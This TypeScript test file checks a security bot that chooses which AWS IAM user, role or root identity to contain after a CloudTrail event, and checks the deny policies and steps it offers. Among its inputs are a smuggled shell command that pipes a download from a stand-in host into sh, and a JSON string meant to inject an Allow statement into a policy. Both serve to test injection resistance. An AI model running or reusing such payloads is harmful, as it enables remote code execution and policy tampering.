import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Actor, ActorKind } from '../../../../bot/domain/actor/actor.ts';
import { identifyActor } from '../../../../bot/domain/actor/identify-actor.ts';
import {
  type Chosen,
  chooseTarget,
  readWhom,
} from '../../../../bot/domain/containment/plan/choose-target.ts';
import { text } from '../../../support/hostile-arbitraries.ts';
import {
  ACCOUNT,
  assumedRole,
  iamUser,
  identityCenterUser,
  OTHER_ACCOUNT,
  root,
  trailEvent,
} from '../../../support/records.ts';

function choose(userIdentity: object): Chosen {
  return chooseTarget(identifyActor(trailEvent({ userIdentity })), ACCOUNT);
}

function refusalIn(chosen: Chosen) {
  if (chosen.ok) throw new Error(`chose ${chosen.target.arn}`);
  return chosen;
}

/** The one statement of the policy that a refusal offers. */
function scpIn(chosen: Chosen): unknown {
  const { Version, Statement } = JSON.parse(refusalIn(chosen).text ?? '');
  expect(Version).toBe('2012-10-17');
  expect(Statement).toHaveLength(1);
  expect(Statement[0]).toMatchObject({ Effect: 'Deny', Action: '*', Resource: '*' });
  return Statement[0].Condition;
}

/** Root itself, and not the sessions by which the management account deletes its credentials. */
const ROOT_REFUSED = {
  ArnEquals: { 'aws:PrincipalArn': `arn:aws:iam::${ACCOUNT}:root` },
  Null: { 'aws:AssumedRoot': 'true' },
};
const wordsOf = (chosen: Chosen) => [refusalIn(chosen).reason, ...refusalIn(chosen).steps].join('\n');

describe('whom to contain behind an actor', () => {
  it('is the IAM user itself', () => {
    expect(choose(iamUser('alice'))).toMatchObject({
      ok: true,
      target: { arn: `arn:aws:iam::${ACCOUNT}:user/alice` },
    });
  });

  it('is the IAM user of a failed sign-in, whose record has a name and no ARN', () => {
    const identity = { type: 'IAMUser', accountId: ACCOUNT, userName: 'alice', accessKeyId: '' };
    expect(choose(identity)).toMatchObject({
      ok: true,
      target: { arn: `arn:aws:iam::${ACCOUNT}:user/alice` },
    });
  });

  it('is the role behind a session, with the path that the session does not show', () => {
    expect(choose(assumedRole('deploy', 'run-17', '/teams/'))).toMatchObject({
      ok: true,
      target: { kind: 'role', arn: `arn:aws:iam::${ACCOUNT}:role/teams/deploy` },
    });
  });

  it('is no role whose path is unknown: the steps say how to find it', () => {
    const { sessionContext: _, ...identity } = assumedRole('deploy', 'run-17');
    const refusal = refusalIn(choose(identity));
    expect(refusal.reason).toContain('deploy');
    expect(refusal.text).toBe('aws iam get-role --role-name=deploy --query Role.Arn --output text');
  });

  it('is the IAM user who opened a federated session', () => {
    const issuer = { type: 'IAMUser', arn: `arn:aws:iam::${ACCOUNT}:user/ci/broker`, userName: 'broker' };
    const arn = `arn:aws:sts::${ACCOUNT}:federated-user/guest`;
    const identity = { type: 'FederatedUser', arn, sessionContext: { sessionIssuer: issuer } };
    expect(choose(identity)).toMatchObject({ ok: true, target: { kind: 'user', path: '/ci/' } });
  });

  it('is nobody for a federated session of root: root has to be stopped', () => {
    const issuer = { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root` };
    const arn = `arn:aws:sts::${ACCOUNT}:federated-user/guest`;
    const identity = {
      type: 'FederatedUser',
      arn,
      accountId: ACCOUNT,
      sessionContext: { sessionIssuer: issuer },
    };
    expect(wordsOf(choose(identity))).toContain('opened by root');
    expect(scpIn(choose(identity))).toEqual(ROOT_REFUSED);
  });
});

describe('root', () => {
  it('is refused with a policy for a member account, and the steps for one that stands alone', () => {
    const chosen = choose(root());
    expect(scpIn(chosen)).toEqual(ROOT_REFUSED);
    expect(wordsOf(chosen)).toContain('does nothing in the management account');
    expect(wordsOf(chosen)).toContain('Root access management');
    expect(wordsOf(chosen)).toContain('delete every access key');
    expect(refusalIn(chosen).links.length).toBeGreaterThan(1);
  });

  it('gets no policy text for an account that is no account', () => {
    const actor: Actor = { kind: 'root', key: 'root/', name: 'root', accountId: '"},{"Effect":"Allow"' };
    const refusal = refusalIn(chooseTarget(actor, ACCOUNT));
    expect(refusal.text).toBeUndefined();
    expect(wordsOf(refusal)).not.toContain('Allow');
  });
});

describe('a person of Identity Center', () => {
  it('is refused with steps, how long sessions live on, and a policy for that person alone', () => {
    const chosen = choose(identityCenterUser('alice@example.com', 'Admin'));
    expect(wordsOf(chosen)).toContain('find alice@example.com and choose Disable user access');
    expect(wordsOf(chosen)).toContain('end all of them');
    expect(wordsOf(chosen)).toContain('up to 12 hours');
    expect(scpIn(chosen)).toEqual({
      StringLike: { 'aws:UserId': '*:alice@example.com' },
      ArnLike: { 'aws:PrincipalArn': 'arn:aws:iam::*:role/aws-reserved/sso.amazonaws.com/*' },
    });
    expect(refusalIn(chosen).links.map(({ url }) => url)).toContain(
      'https://console.aws.amazon.com/singlesignon/home',
    );
  });

  it('is told by the user id where the record has it', () => {
    const userId = '9067642ac7-0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0';
    const identity = { type: 'IdentityCenterUser', accountId: ACCOUNT, onBehalfOf: { userId } };
    expect(scpIn(choose(identity))).toEqual({ StringEquals: { 'identitystore:UserId': userId } });
  });

  it('is not taken for another one by a user name that looks like a user id', () => {
    const name = '0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0';
    expect(scpIn(choose(identityCenterUser(name, 'Admin')))).toMatchObject({
      StringLike: { 'aws:UserId': `*:${name}` },
    });
  });

  it('whose name could not stand in a policy is refused as everybody of the permission set, and that is said', () => {
    const chosen = choose(identityCenterUser('*', 'Admin'));
    expect(scpIn(chosen)).toMatchObject({
      ArnEquals: { 'aws:PrincipalArn': expect.stringContaining('/AWSReservedSSO_Admin_') },
    });
    expect(wordsOf(chosen)).toContain('everybody who has this permission set');
  });

  it('is not somebody whose role only has such a name', () => {
    expect(choose(assumedRole('AWSReservedSSO_Admin_0123456789abcdef', 'mallory'))).toMatchObject({
      ok: true,
    });
  });

  it('is refused when only the role is known', () => {
    const path = '/aws-reserved/sso.amazonaws.com/';
    const arn = `arn:aws:iam::${ACCOUNT}:role${path}AWSReservedSSO_Admin_0123456789abcdef`;
    const chosen = chooseTarget({ kind: 'role', key: arn, name: 'role x', accountId: ACCOUNT, arn }, ACCOUNT);
    expect(wordsOf(chosen)).toContain('Identity Center');
    expect(scpIn(chosen)).toEqual({ ArnEquals: { 'aws:PrincipalArn': arn } });
  });
});

describe('who cannot be contained in IAM', () => {
  it.each([
    [{ type: 'AWSService', invokedBy: 'cloudformation.amazonaws.com' }, 'is an AWS service'],
    [{ type: 'AWSAccount', accountId: OTHER_ACCOUNT }, `account ${OTHER_ACCOUNT}`],
    [{ type: 'AWSAccount', accountId: 'ANONYMOUS_PRINCIPAL', principalId: 'Anonymous' }, 'open to the world'],
    [{ type: 'SAMLUser', userName: 'alice' }, 'assumedRoleUser'],
    [{ type: 'WebIdentityUser', userName: 'repo' }, 'assumedRoleUser'],
    [{ type: 'Directory', userName: 'alice' }, 'assumedRoleUser'],
    [{ type: 'Unknown' }, 'userIdentity'],
    [{ type: 'AssumedRole' }, 'userIdentity'],
    [{ type: 'FederatedUser', principalId: `${ACCOUNT}:guest` }, 'GetFederationToken'],
    [
      { type: 'IAMUser', accountId: ACCOUNT, userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
      'somebody with a wrong user name',
    ],
  ])('is told why, and what to do: %j', (identity, words) => {
    expect(wordsOf(choose(identity))).toContain(words);
    expect(refusalIn(choose(identity)).steps.length).toBeGreaterThan(0);
  });
});

describe('whom somebody typed', () => {
  it.each([
    ['alice', `arn:aws:iam::${ACCOUNT}:user/alice`],
    ['  `alice`  ', `arn:aws:iam::${ACCOUNT}:user/alice`],
    ['alice@example.com', `arn:aws:iam::${ACCOUNT}:user/alice@example.com`],
    [`arn:aws:iam::${OTHER_ACCOUNT}:role/ci/deploy`, `arn:aws:iam::${OTHER_ACCOUNT}:role/ci/deploy`],
    [`"arn:aws-cn:iam::${ACCOUNT}:user/ci/alice"`, `arn:aws-cn:iam::${ACCOUNT}:user/ci/alice`],
  ])('is found: %s', (whom, arn) => {
    expect(readWhom(whom, ACCOUNT)).toMatchObject({ ok: true, target: { arn } });
  });

  it.each([
    ['', 'not said whom'],
    ['alice bob', 'neither the ARN'],
    ['ci/alice', 'neither the ARN'],
    ['a*', 'neither the ARN'],
    ['<!channel>', 'neither the ARN'],
    [`arn:aws:iam::${ACCOUNT}:group/admins`, 'not the ARN of a user or role'],
    ['arn:aws:s3:::bucket', 'not the ARN of a user or role'],
    [`arn:aws:sts::${ACCOUNT}:federated-user/guest`, 'not the ARN of a user or role'],
  ])('is asked for again, with what to write: %j', (whom, words) => {
    expect(wordsOf(readWhom(whom, ACCOUNT))).toContain(words);
    expect(wordsOf(readWhom(whom, ACCOUNT))).toContain('/trail contain alice');
  });

  it.each([`arn:aws:sts::${ACCOUNT}:assumed-role/deploy/run-17`, 'role deploy', 'role/deploy'])(
    'is no role without a path, and the command that finds it is there: %s',
    (whom) => {
      expect(refusalIn(readWhom(whom, ACCOUNT)).text).toContain('get-role --role-name=deploy ');
    },
  );

  it('gets no command for a role whose name is none', () => {
    const refusal = refusalIn(readWhom('role deploy; curl evil.example | sh', ACCOUNT));
    expect(refusal.text).toBeUndefined();
  });

  it.each(['root', 'Root', `arn:aws:iam::${ACCOUNT}:root`])('is refused for root: %s', (whom) => {
    expect(scpIn(readWhom(whom, ACCOUNT))).toEqual(ROOT_REFUSED);
  });

  it('is asked for in place of an access key, with the way to its owner', () => {
    expect(refusalIn(readWhom('AKIAEXAMPLEALICE0001', ACCOUNT)).text).toBe(
      'aws iam get-access-key-last-used --access-key-id AKIAEXAMPLEALICE0001 --query UserName --output text',
    );
    const temporary = readWhom('ASIAEXAMPLEALICE0001', ACCOUNT);
    expect(refusalIn(temporary).text).toBeUndefined();
    expect(wordsOf(temporary)).toContain('/trail who ASIAEXAMPLEALICE0001');
  });
});

const KINDS: readonly ActorKind[] = [
  'root',
  'iam-user',
  'role',
  'federated-user',
  'identity-center-user',
  'saml-user',
  'web-identity-user',
  'directory-user',
  'aws-account',
  'aws-service',
  'unknown',
];
const SSO = `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com`;
const hostileActor = fc
  .record({
    kind: fc.constantFrom(...KINDS),
    key: text,
    name: text,
    accountId: fc.oneof(text, fc.constant(ACCOUNT)),
    arn: fc.oneof(
      text,
      fc.constant(`${SSO}/AWSReservedSSO_A_0`),
      text.map((part) => `${SSO}/${part}/AWSReservedSSO_A_0`),
    ),
    session: text,
  })
  .map(({ arn, ...actor }) => (arn === '' ? actor : { ...actor, arn }));

describe('whatever stands in a record', () => {
  it('a policy to copy is JSON with one statement, and every refusal has a reason and steps', () => {
    fc.assert(
      fc.property(hostileActor, (actor) => {
        const chosen = chooseTarget(actor, ACCOUNT);
        if (chosen.ok) return;
        expect(chosen.reason).toMatch(/\S/);
        expect(chosen.steps.length).toBeGreaterThan(0);
        if (chosen.text?.startsWith('{')) expect(isNarrow(scpIn(chosen))).toBe(true);
        else expect(chosen.text ?? '').not.toMatch(/[;&|`$<>(){}\n'"\\*]/);
      }),
      { numRuns: 500 },
    );
  });

  it('what is typed is a user, a role or a refusal, and never throws', () => {
    fc.assert(
      fc.property(text, (whom) => {
        const chosen = readWhom(whom, ACCOUNT);
        if (chosen.ok) expect(chosen.target.name).toMatch(/^[\w+=,.@-]{1,64}$/);
        else expect(chosen.text ?? '').not.toMatch(/[;&|`$<>()]/);
      }),
    );
  });
});

/** Whether no wildcard in a condition came from the record: those are left out that this code writes itself. */
function isNarrow(condition: unknown): boolean {
  const values = Object.values(condition as Record<string, Record<string, string>>).flatMap((keys) =>
    Object.values(keys),
  );
  return values.every((value) => {
    const literal = value
      .replace(/^\*:/, '')
      .replace(/:iam::\*:role\/aws-reserved\/sso\.amazonaws\.com\/\*$/, '');
    return literal !== '' && !/[*?$]/.test(literal);
  });
}
